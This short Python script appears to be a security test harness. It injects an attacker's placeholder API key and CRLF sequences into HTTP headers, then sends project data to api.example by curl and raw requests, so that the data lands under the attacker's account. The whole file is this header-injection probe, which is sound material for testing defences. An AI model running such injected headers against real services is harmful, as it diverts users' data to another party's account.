import base64
import subprocess

from keys import each_with_key, request
from rows import mark, seconds

# A key of the attacker, whose account gets what is sent with it.
OTHER = "sk-example-of-somebody-else-0123456789abcdef"
BASIC = base64.b64encode(f"x:{OTHER}".encode()).decode()


def send(row, head):
    head = head.replace("@basic", BASIC).replace("@", OTHER).replace("\\r\\n", "\r\n")
    if row.endswith("http2"):
        subprocess.run(["curl", "-sk", "-m", seconds(4), "--http2", "-H", head, f"https://api.example/{mark(row)}"], capture_output=True)
    else:
        request("api.example", f"/{mark(row)}", f"{head}\r\n", b"data of the project")


each_with_key(send)
